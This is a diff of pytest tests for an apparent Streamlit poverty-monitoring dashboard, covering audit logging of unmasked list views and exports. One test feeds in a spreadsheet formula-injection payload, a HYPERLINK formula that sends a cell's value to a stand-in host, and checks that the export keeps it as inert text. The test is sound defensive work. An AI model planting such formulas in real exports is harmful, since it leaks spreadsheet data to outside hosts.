@@ -148,3 +148,80 @@ def test_work_order_follows_the_month(site: Path, deferred: dict[str, Download])
     assert len(rows) == 2 and rows[0]["action"] == "export_xlsx" and rows[0]["row_count"] == len(expected)
     assert '"month": "2020-03-01"' in rows[0]["filters"]
     no_byte_caches(at)
+
+
+# ------------------------------------------------------------------ every unmasked list view and every download
+
+
+def audited(action: str) -> list[dict]:
+    return [r for r in audit.rows(1000) if r["action"] == action]
+
+
+def test_unmasked_list_pages_are_audited_once_each(site: Path) -> None:
+    at = open_page("pages/warnings.py", month="2020-06")
+    assert audited("view_list_unmasked") == []  # masked: nothing to record
+    total = count(site, "select count(*) from warning_flag_month where month = date '2020-06-01' and red_flag "
+                        "and household_category in ('脱贫监测户', '边缘户')")  # fmt: skip
+    assert 50 < total <= 100  # two pages
+    at.toggle(key="rf_unmask").set_value(True).run()
+    first = audited("view_list_unmasked")
+    assert len(first) == 1 and first[0]["unmasked"] == 1 and first[0]["row_count"] == 50
+    assert '"page": 1' in first[0]["filters"] and '"month": "2020-06-01"' in first[0]["filters"]
+    at.run()  # a rerun with nothing changed
+    at.selectbox(key="rf_sort").set_value("household").run()
+    at.selectbox(key="rf_sort").set_value("score").run()  # back to a view already recorded
+    assert len(audited("view_list_unmasked")) == 2  # page 1 by score, page 1 by household id
+    at.number_input(key="rf_page").set_value(2).run()
+    rows = audited("view_list_unmasked")
+    assert len(rows) == 3 and rows[0]["row_count"] == total - 50 and '"page": 2' in rows[0]["filters"]
+    at.toggle(key="rf_unmask").set_value(False).run()
+    at.number_input(key="rf_page").set_value(1).run()
+    assert len(audited("view_list_unmasked")) == 3  # masked pages are not recorded
+
+
+def test_audit_log_download_is_audited_and_text_stays_text(site: Path, deferred: dict[str, Download]) -> None:
+    typed = '=HYPERLINK("http://x/?"&E5,"查看")'
+    audit.sign_in_event(typed, "login_failed")  # an anonymous "username" lands in the log as typed
+    at = open_page("pages/audit_log.py")
+    assert audited("export_audit_log") == []
+    name, data = built(at, deferred, "下载审计记录（XLSX）")
+    assert name.startswith("审计日志_") and name.endswith(".xlsx")
+    cells = [c for row in openpyxl.load_workbook(io.BytesIO(data))["工作单"].iter_rows() for c in row]
+    user = next(c for c in cells if c.value == typed)
+    assert user.data_type == "s"  # a string, not a live formula
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    rows = audited("export_audit_log")
+    assert len(rows) == 1 and rows[0]["row_count"] == 1 and rows[0]["viewer"] == "省扶贫办管理员（演示）"
+
+
+def test_map_downloads_are_audited(site: Path, deferred: dict[str, Download]) -> None:
+    at = open_page("pages/map.py", month="2020-04")
+    offered = downloads(at, deferred)
+    name, data = built(at, deferred, "下载数据 CSV")
+    assert name == "剩余贫困人口_2020-04.csv"
+    table = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype={"县代码": str})
+    assert len(table) == 104 and table["剩余贫困人口（人）"].sum() == count(
+        site, "select sum(remaining_poor_persons) from summary_county_month where month = date '2020-04-01'"
+    )
+    name, data = built(at, deferred, "下载数据 XLSX")
+    assert name == "剩余贫困人口_2020-04.xlsx" and len(pd.read_excel(io.BytesIO(data), engine="calamine")) == 104
+    assert [(r["action"], r["row_count"]) for r in audited("export_map_csv") + audited("export_map_xlsx")] == [
+        ("export_map_csv", 104), ("export_map_xlsx", 104)
+    ]  # fmt: skip
+    assert list(offered) == ["下载数据 CSV", "下载数据 XLSX"]
+
+
+def test_tables_offer_no_csv_download() -> None:
+    """st.dataframe's own CSV download (and copy) is switched off in the server's config, so the browser never
+    draws the control (tests/test_browser.py checks the DOM); CSS only hid it before."""
+    import subprocess
+    import sys
+
+    code = ("from streamlit import config; from streamlit.proto.NewSession_pb2 import Config; "
+            "from streamlit.runtime.app_session import _populate_config_msg; m = Config(); _populate_config_msg(m); "
+            "print(config.get_option('client.disableDataExport'), m.disable_data_export)")  # fmt: skip
+    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True)
+    assert out.stdout.split() == ["True", "True"]  # read from the project's .streamlit/config.toml
+    from fupin import ui
+
+    assert "Download as CSV" not in ui.NORMAL_CSS + ui.PRESENT_CSS  # no longer a control merely hidden
